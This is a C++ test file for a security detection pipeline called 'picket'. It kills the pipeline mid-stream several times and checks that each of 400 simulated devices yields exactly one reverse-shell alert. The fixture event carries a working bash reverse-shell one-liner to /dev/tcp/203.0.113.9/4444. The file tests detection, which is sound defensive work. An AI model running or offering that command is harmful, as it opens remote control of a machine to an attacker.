// `picket live pipeline` is killed in the middle of a stream, several times, and started again: no finding is lost, and none is twice.

#include <gmock/gmock.h>

#include <chrono>
#include <map>
#include <thread>

#include "tests/sim/live/pipeline/live_story.h"
#include "tests/sim/live/program/live_programs.h"

namespace picket::sim {
namespace {

using test::RunningPicket;
using test::WholeHub;

constexpr int kShells = 400;

/// A reverse shell on a device of its own.
test::StoredEvent shell_on(int device) {
  test::StoredEvent out;
  out.device = "dev-" + std::to_string(1'000 + device);
  out.enqueued_ms = static_cast<std::int64_t>(std::time(nullptr)) * 1'000;
  out.message_id = "m" + std::to_string(device);
  out.body = test::exec_body("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Time::from_unix_microseconds(out.enqueued_ms * 1'000), static_cast<std::uint32_t>(device));
  return out;
}

std::map<std::string, int> alerts_by_device(const std::string& workspace) {
  std::map<std::string, int> out;
  for (const std::string& device : test::rows_of(workspace, "SELECT CompromisedEntity FROM SecurityAlert WHERE AlertType LIKE '%everse%' OR AlertName LIKE '%everse%'")) ++out[device];
  return out;
}

TEST(PipelineProgram, loses_no_finding_and_tells_none_twice_when_it_is_killed) {
  const TemporaryFolder folder;
  WholeHub hub(folder.path());
  hub.write_connections(folder.path());
  std::vector<std::string> arguments{"live", "pipeline", "--connection", "endpoint.txt", "--hold", "1s", "--workspace", "workspace.sqlite"};
  for (const std::string& word : hub.pipeline_options()) arguments.push_back(word);
  int next = 0;
  for (int life = 0; life < 4; ++life) {
    RunningPicket pipeline(folder.path(), arguments, "life" + std::to_string(life));
    for (int i = 0; i < kShells / 8; ++i) hub.endpoint().append(static_cast<std::uint16_t>(next % 2), shell_on(next)), ++next;
    std::this_thread::sleep_for(std::chrono::milliseconds(1'500 + 700 * life));
    for (int i = 0; i < kShells / 8; ++i) hub.endpoint().append(static_cast<std::uint16_t>(next % 2), shell_on(next)), ++next;
    EXPECT_EQ(pipeline.end(SIGKILL), -SIGKILL) << pipeline.err();
  }
  arguments.emplace_back("--until-idle");
  RunningPicket last(folder.path(), arguments, "last");
  EXPECT_EQ(last.wait(), 0) << last.err();
  const std::map<std::string, int> alerts = alerts_by_device(folder.file("workspace.sqlite"));
  EXPECT_EQ(alerts.size(), static_cast<std::size_t>(kShells)) << last.err();
  for (const auto& [device, count] : alerts) EXPECT_EQ(count, 1) << device;
}

}  // namespace
}  // namespace picket::sim
